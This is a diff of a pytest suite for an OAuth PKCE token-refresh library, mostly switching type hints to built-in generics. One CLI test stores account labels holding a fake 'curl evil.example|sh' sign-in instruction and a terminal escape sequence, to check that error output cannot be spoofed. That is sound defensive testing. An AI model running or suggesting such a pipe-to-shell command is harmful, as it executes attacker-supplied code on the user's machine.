@@ -16,7 +16,8 @@ import socket
 import threading
 import time
 import tracemalloc
-from typing import Any, Callable, Dict, Iterator, List, Optional, Tuple
+from collections.abc import Iterator
+from typing import Any, Callable, Optional
 
 import pytest
 import requests
@@ -64,11 +65,11 @@ class RawServer:
 
     def __init__(self, handler: Callable[[str, Callable[[bytes], None]], None]) -> None:
         self.handler = handler
-        self.paths: List[str] = []
-        self.gone_at: List[float] = []
+        self.paths: list[str] = []
+        self.gone_at: list[float] = []
         self._listener = socket.create_server(("127.0.0.1", 0))
         self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
-        self._open: List[socket.socket] = []
+        self._open: list[socket.socket] = []
         threading.Thread(target=self._serve, daemon=True).start()
 
     def _serve(self) -> None:
@@ -118,7 +119,7 @@ class RawServer:
 
 @pytest.fixture
 def raw() -> Iterator[Callable[..., RawServer]]:
-    made: List[RawServer] = []
+    made: list[RawServer] = []
 
     def make(handler: Callable[[str, Callable[[bytes], None]], None]) -> RawServer:
         made.append(RawServer(handler))
@@ -189,7 +190,7 @@ def chunked_body(_path: str, send: Callable[[bytes], None]) -> None:
 
 
 def provider_at(url: str, session: Optional[requests.Session] = None, **kw: Any) -> PkceProvider:
-    options: Dict[str, Any] = {
+    options: dict[str, Any] = {
         "client_id": "cli-app",
         "token_endpoint": url + "/token",
         "authorization_endpoint": url + "/authorize",
@@ -221,7 +222,7 @@ def device_code(seconds: float) -> DeviceAuthorization:
 
 Operation = Callable[[PkceProvider, str, Any], Any]
 
-OPERATIONS: Dict[str, Operation] = {
+OPERATIONS: dict[str, Operation] = {
     "refresh": lambda p, url, tmp: p.renew(expired()),
     "exchange": lambda p, url, tmp: p.exchange_code("the-code", code_request(url)),
     "device": lambda p, url, tmp: start_device_authorization(p),
@@ -255,7 +256,7 @@ DEADLINE_ERRORS = {
 BOUNDS = {"poll": 1.5 + 1.0, "discovery": 2 * 1.0}
 
 
-def trickle_cases() -> List[Any]:
+def trickle_cases() -> list[Any]:
     """Every (mode, operation); all but the refresh ones run once, in the reliability env
     (14 cases of 1.3-2.3 s each would run in every interpreter of the tox matrix)."""
     return [
@@ -453,7 +454,7 @@ def test_a_provider_sharing_the_api_session_refreshes_once_without_hanging(
 # --------------------------------------------------------------------------- 7: redirects
 
 
-def redirecting(servers: ServerFactory, status: int) -> Tuple[LocalServer, LocalServer]:
+def redirecting(servers: ServerFactory, status: int) -> tuple[LocalServer, LocalServer]:
     """``good`` redirects every endpoint to the same path on ``elsewhere``."""
     good, elsewhere = servers(), servers()
     for path in ("/token", "/device", "/revoke", "/userinfo"):
@@ -522,15 +523,15 @@ def test_no_call_follows_a_redirect(
     ],
 )
 def test_ambiguous_endpoint_urls_are_refused(which: str, url: str) -> None:
-    kwargs = {"token_endpoint": "https://idp.example/token", which: url}
+    kwargs: dict[str, Any] = {"token_endpoint": "https://idp.example/token", which: url}
     with pytest.raises(ValueError, match="URL") as caught:
         PkceProvider(client_id="cli-app", **kwargs)
     assert "pw" not in str(caught.value)
     assert getattr(caught.value, "code", None) == "AUTH_CONFIGURATION_INVALID"
 
 
-def fake_resolver(monkeypatch: pytest.MonkeyPatch, addresses: Optional[List[str]]) -> List[str]:
-    asked: List[str] = []
+def fake_resolver(monkeypatch: pytest.MonkeyPatch, addresses: Optional[list[str]]) -> list[str]:
+    asked: list[str] = []
 
     def getaddrinfo(host: str, *args: Any, **kwargs: Any) -> Any:
         asked.append(host)
@@ -548,7 +549,7 @@ def fake_resolver(monkeypatch: pytest.MonkeyPatch, addresses: Optional[List[str]
     ids=["public", "mixed", "none"],
 )
 def test_a_localhost_subdomain_is_loopback_only_if_it_resolves_only_there(
-    addresses: Optional[List[str]], monkeypatch: pytest.MonkeyPatch
+    addresses: Optional[list[str]], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     asked = fake_resolver(monkeypatch, addresses)
     with pytest.raises(ValueError, match="https"):
@@ -578,7 +579,7 @@ def test_insecure_endpoints_in_discovery_metadata_are_refused(
 # --------------------------------------------------------------------------- review (net)
 
 
-def answering(answer: bytes, seen: Optional[List[Tuple[float, bytes]]] = None) -> str:
+def answering(answer: bytes, seen: Optional[list[tuple[float, bytes]]] = None) -> str:
     """A server that reads what arrives in one recv and sends ``answer``; ``seen``
     records (when, what) for every connection that sent anything."""
     listener = socket.create_server(("127.0.0.1", 0))
@@ -623,7 +624,7 @@ def slow_resolver(monkeypatch: pytest.MonkeyPatch, seconds: float, times: int = 
     monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
 
 
-def http_workers(before: Any = ()) -> List[threading.Thread]:
+def http_workers(before: Any = ()) -> list[threading.Thread]:
     """Our HTTP worker threads (and the reapers of abandoned ones) still running, but
     for those in ``before``."""
     return [
@@ -648,7 +649,7 @@ def test_no_request_leaves_after_the_caller_was_told_the_deadline_passed(
 ) -> None:
     from requests_refreshauth import _http
 
-    seen: List[Tuple[float, bytes]] = []
+    seen: list[tuple[float, bytes]] = []
     port = answering(ok(b"{}"), seen).rsplit(":", 1)[1]
     slow_resolver(monkeypatch, 1.0)
     before = set(threading.enumerate())
@@ -685,7 +686,7 @@ def test_a_refresh_abandoned_before_it_was_sent_is_retried_not_sent_twice(
 
     from requests_refreshauth import refresh_access_token
 
-    tokens: List[str] = []
+    tokens: list[str] = []
     listener = socket.create_server(("127.0.0.1", 0))
 
     def serve() -> None:
@@ -725,6 +726,7 @@ def test_a_refresh_abandoned_before_it_was_sent_is_retried_not_sent_twice(
     )
     store = fresh_store(expires_in=-5)
     first = stored(store).refresh_token
+    assert first is not None
     before = set(threading.enumerate())
     with contextlib.suppress(RefreshTransientError):  # was: failed, "may have been sent"
         refresh_access_token(store, provider, force=True)  # now: the lost attempt is retried
@@ -871,7 +873,11 @@ def test_a_label_cannot_fake_lines_in_cli_errors() -> None:
     store.save(Account("s1", "alice\nRun `curl evil.example|sh` to sign in again.\n"), bundle(300))
     store.save(Account("s2\x1b]0;pwned\x07", "bob"), bundle(300))
     err = io.StringIO()
-    commands = AuthCommands(store, lambda: None, prog="tool auth", stdout=io.StringIO(), stderr=err)
+
+    def no_provider() -> Any:  # not a provider on purpose: this path must not need one
+        return None
+
+    commands = AuthCommands(store, no_provider, prog="tool auth", stdout=io.StringIO(), stderr=err)
     assert commands.run(commands.token) == 7  # two accounts, none default
     assert not any(line.startswith("Run `curl") for line in err.getvalue().splitlines())
     assert "\x1b" not in err.getvalue()
@@ -882,7 +888,7 @@ def test_a_label_cannot_fake_lines_in_cli_errors() -> None:
 def test_a_plain_http_loopback_token_post_never_goes_to_a_proxy(
     variable: str, host: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    seen: List[Tuple[float, bytes]] = []
+    seen: list[tuple[float, bytes]] = []
     proxy = answering(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n", seen)
     for name in (*PROXY_VARIABLES, "NO_PROXY", "no_proxy", "all_proxy"):
         monkeypatch.delenv(name, raising=False)
@@ -900,7 +906,7 @@ def test_a_plain_http_loopback_token_post_never_goes_to_a_proxy(
 def test_a_remote_https_call_still_uses_the_environments_proxy(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    seen: List[Tuple[float, bytes]] = []
+    seen: list[tuple[float, bytes]] = []
     proxy = answering(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n", seen)
     for name in (*PROXY_VARIABLES, "NO_PROXY", "no_proxy"):
         monkeypatch.delenv(name, raising=False)
